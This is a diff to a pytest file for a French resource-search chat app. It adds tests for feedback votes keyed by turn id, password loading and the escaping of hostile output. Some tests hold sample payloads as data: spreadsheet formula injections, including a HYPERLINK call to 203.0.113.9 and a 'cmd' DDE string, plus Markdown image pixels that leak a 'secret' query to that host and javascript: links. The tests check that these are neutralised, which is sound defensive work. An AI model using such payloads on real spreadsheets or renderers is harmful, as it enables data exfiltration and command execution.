@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import json
 
 import pytest
@@ -42,16 +43,34 @@ def test_no_answer_offers_closest_resources(app):
     assert "Ressources les plus proches" in sources_panel(ans)
 
 
-def test_feedback_is_appended_as_jsonl(app):
+def test_feedback_is_appended_as_jsonl_keyed_by_turn_id(app):
     conv = Conversation()
     app.ask("paniers de légumes payés à l'avance", conv)
-    app.record_feedback(conv, 0, liked=False)
-    app.record_feedback(conv, 0, liked=True)
+    app.ask("Qui détient le capital d'une SCOP ?", conv)
+    first, second = (t["id"] for t in conv.turns)
+    assert first and second and first != second
+    app.record_feedback(conv, second, liked=False)
+    app.record_feedback(conv, first, liked=True)
     rows = [json.loads(ln) for ln in app.feedback_path.read_text(encoding="utf-8").splitlines()]
-    assert [r["liked"] for r in rows[-2:]] == [False, True]
+    assert [(r["turn_id"], r["liked"]) for r in rows[-2:]] == [(second, False), (first, True)]
     assert rows[-1]["question"] == "paniers de légumes payés à l'avance" and rows[-1]["cited_ids"] == ["amap-paniers"]
+    assert set(rows[-1]) == {"time", "turn_id", "liked", "question", "answer", "cited_ids", "found"}
     with pytest.raises(QueryError):
-        app.record_feedback(conv, 5, liked=True)
+        app.record_feedback(conv, "inconnu", liked=True)
+
+
+def test_a_failed_turn_does_not_shift_later_votes(app):
+    """Chat messages 0-1: first question; 2-3: a turn that failed before being recorded; 4-5: third question.
+    The vote on message 5 belongs to the third question (index // 2 would have given the failed turn's slot)."""
+    conv = Conversation()
+    ids = ["t-amap", "t-echec", "t-scop"]
+    conv.messages = {1: ids[0], 3: ids[1], 5: ids[2]}
+    list(app.ask_stream("paniers de légumes payés à l'avance", conv, turn_id=ids[0]))
+    list(app.ask_stream("Qui détient le capital d'une SCOP ?", conv, turn_id=ids[2]))
+    row = app.record_feedback(conv, conv.messages.get(5), liked=True)
+    assert row["turn_id"] == "t-scop" and row["question"] == "Qui détient le capital d'une SCOP ?"
+    with pytest.raises(QueryError, match="Réponse inconnue"):
+        app.record_feedback(conv, conv.messages.get(3), liked=False)
 
 
 def test_finder_filters_by_type_and_returns_resources_not_chunks(app):
@@ -77,6 +96,21 @@ def test_similar_resources_and_csv_export(app):
     assert rows[0][:4] == ["rang", "id", "titre", "type"] and [r[1] for r in rows[1:]] == [h.chunk.doc_id for h in hits]
 
 
+def test_csv_export_neutralises_formulas(app):
+    hits = app.similar("amap-paniers", k=2)
+    evil = {"title": '=HYPERLINK("http://203.0.113.9/?q="&A1,"clic")', "authors": ["+1+cmd|' /C calc'!A0", "@SUM(1)"],
+            "url": "-2+3", "language": "\t=1+1", "year": 2020}
+    hits[0] = dataclasses.replace(hits[0], chunk=dataclasses.replace(hits[0].chunk, meta={**hits[0].chunk.meta, **evil}))
+    with open(app.export_csv(hits), encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    cells = [c for r in rows[1:] for c in r]
+    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+    row = rows[1]
+    assert row[2] == "'" + evil["title"] and row[5] == "'+1+cmd|' /C calc'!A0; @SUM(1)" and row[7] == "'-2+3"
+    assert row[4] == "2020" and row[0] == "1"  # numbers stay numbers
+    assert rows[2][2] == hits[1].chunk.meta["title"]  # ordinary text is untouched
+
+
 def test_dossier_counts_equal_the_index(app):
     assert app.type_counts() == {"publication": 1, "these": 1, "video": 1, "outil_pedagogique": 0,
                                  "etude_de_cas": 1, "document_analyse": 1, "intervention_publique": 0, "article": 1}
@@ -86,10 +120,69 @@ def test_dossier_counts_equal_the_index(app):
     assert "Microcredit and the Grameen Bank" in app.list_type("document_analyse")
 
 
+def _rendered(markdown: str) -> str:
+    """The Markdown as a CommonMark renderer turns it into HTML (the chat uses a compatible one)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").render(markdown)
+
+
+def test_markdown_images_and_foreign_links_are_neutralised(app):
+    """Passages, titles and a language model's text may carry Markdown that would fetch an image or link to
+    another site; only the answer's own resource links survive as links."""
+    import re
+
+    from rag.types import Answer, Citation
+
+    ans, _ = app.ask("Qui détient le capital d'une SCOP ?", Conversation())
+    src = ans.citations[0].chunk
+    own = src.meta["url"]
+    hostile = ("Les salariés ![pixel](http://203.0.113.9/p.png?q=secret) détiennent [1] le capital "
+               "[voir](http://203.0.113.9/x) ![ref][r] [r] \\![a](http://203.0.113.9/b) <http://203.0.113.9/auto> "
+               "[clic](javascript:alert(1)) ![data](data:image/png;base64,AAAA) www.exemple.invalid/x "
+               "http://203.0.113.9/nu contact@exemple.invalid voir aussi " + own + "\n\n[r]: http://203.0.113.9/def")
+    meta = {**src.meta, "title": "Titre ![t](http://203.0.113.9/t.png)", "authors": ["[A](http://203.0.113.9/a)"]}
+    forged = Answer(question="q", text=hostile, hits=ans.hits,
+                    citations=[Citation(1, dataclasses.replace(src, meta=meta))], warnings=["![w](http://203.0.113.9/w)"])
+    out = _rendered(answer_markdown(forged, notice="![n](http://203.0.113.9/n)"))
+    assert "<img" not in out
+    hrefs = re.findall(r'href="([^"]*)"', out)
+    assert hrefs and set(hrefs) == {own}  # the resource's own link, in the text and in « Sources »
+    text = re.sub(r"<[^>]+>", "", out)
+    assert "![pixel](http://203.0.113.9/p.png?q=secret)" in text  # shown as written, not hidden
+    assert "[1]" in text
+
+
 def test_html_in_a_question_is_escaped(app):
     ans, _ = app.ask("<script>alert('x')</script> Qui détient le capital d'une SCOP ?", Conversation())
     md = answer_markdown(ans)
     assert "<script>" not in md
+
+
+def test_password_from_a_file_or_the_environment(tmp_path):
+    from app import parse_args, resolve_auth
+
+    f = tmp_path / "comptes.txt"
+    f.write_text("# atelier\nanimatrice:Mot:de:passe\n\nobservateur:autre\n", encoding="utf-8")
+    f.chmod(0o600)
+    assert resolve_auth(parse_args(["--auth-file", str(f)]), {}) == (
+        [("animatrice", "Mot:de:passe"), ("observateur", "autre")], [])
+    assert resolve_auth(parse_args([]), {"INNOSOC_AUTH": "anim:secret"}) == ([("anim", "secret")], [])
+    assert resolve_auth(parse_args([]), {}) == (None, [])
+    auth, warnings = resolve_auth(parse_args(["--auth", "anim:secret"]), {"INNOSOC_AUTH": "autre:x"})
+    assert auth == [("anim", "secret")] and "ps" in warnings[0]  # still accepted, with a note
+    f.chmod(0o644)
+    assert "chmod 600" in resolve_auth(parse_args(["--auth-file", str(f)]), {})[1][0]
+    for argv, env, message in [
+            (["--auth-file", str(tmp_path / "absent.txt")], {}, "absent.txt"),
+            (["--auth", "a:b", "--auth-file", str(f)], {}, "s'excluent"),
+            (["--auth", "sans-deux-points"], {}, "USER:PASS"),
+            ([], {"INNOSOC_AUTH": "anim:"}, "INNOSOC_AUTH")]:
+        with pytest.raises(ValueError, match=message):
+            resolve_auth(parse_args(argv), env)
+    (tmp_path / "vide.txt").write_text("# rien\n")
+    with pytest.raises(ValueError, match="aucune ligne"):
+        resolve_auth(parse_args(["--auth-file", str(tmp_path / "vide.txt")]), {})
 
 
 def test_overlong_and_control_characters_are_cleaned():
